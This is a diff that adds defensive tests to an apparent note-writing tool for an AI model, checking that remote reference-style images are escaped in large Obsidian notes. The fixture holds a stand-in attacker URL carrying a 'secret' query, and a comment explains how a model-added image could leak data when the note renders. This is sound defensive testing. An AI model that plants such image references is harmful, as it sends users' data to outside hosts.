@@ -219,3 +219,47 @@ describe('issue #13: range rewrites of a big project file stream', { timeout: BI
     expect(await temps()).toEqual([]);
   });
 });
+
+/*
+ * L600: a write to a project note of 8 MiB or more streams and defuses the new lines within 64 KiB of
+ * the note around them. A reference-style image the model added (`![a][r]`) whose definition sat
+ * further up (`[r]: https://…`, the user's plain link's) was written as it was: Obsidian resolves a
+ * definition anywhere in the note, so the image loaded from the web when the note was shown (the
+ * in-memory path escapes the definition). Now such an image is defused (`\![a][r]`, a link) on the
+ * streamed insert, range and append alike, and the answer says so. Real files in a temp copy of the
+ * sample vault.
+ */
+const L600_HEAD = 'See [a][r].\n\n[r]: https://attacker.example/r.png?q=secret\n\n';
+
+describe('L600: a streamed write defuses an image whose definition is far away', {
+  timeout: BIG_FILE_TEST_MS,
+}, () => {
+  const middle = 200_000;
+  const cases: [string, Record<string, unknown>, (before: string) => string][] = [
+    [
+      'insert',
+      { insert: middle, content: '![a][r]' },
+      (b) => b.replace(`line ${middle - 4}:`, `\\![a][r]\nline ${middle - 4}:`),
+    ],
+    [
+      'range',
+      { from: middle, to: middle, content: 'x ![R][]' },
+      (b) => b.replace(/^line 199996: aaaa bbbb cc$/m, 'x \\![R][]'),
+    ],
+    ['append', { content: '![r]' }, (b) => `${b}\\![r]\n`],
+  ];
+  for (const [name, args, expected] of cases)
+    it(`L600: ${name}`, async () => {
+      t = await sampleSession(MEETINGS.functional);
+      const abs = path.join(t.root, 'Projects/remote-control/big.md');
+      const before = `${L600_HEAD}${lines(SIZE, '\n')}\n`;
+      await writeFile(abs, before);
+      const out = await runTool(t.session, 'write_projectfile', {
+        project: 'remote-control',
+        path: 'big.md',
+        ...args,
+      });
+      expect(out).toMatch(/defused 1 item .*reference to a remote image/);
+      expect(await readFile(abs, 'utf8')).toBe(expected(before));
+    });
+});
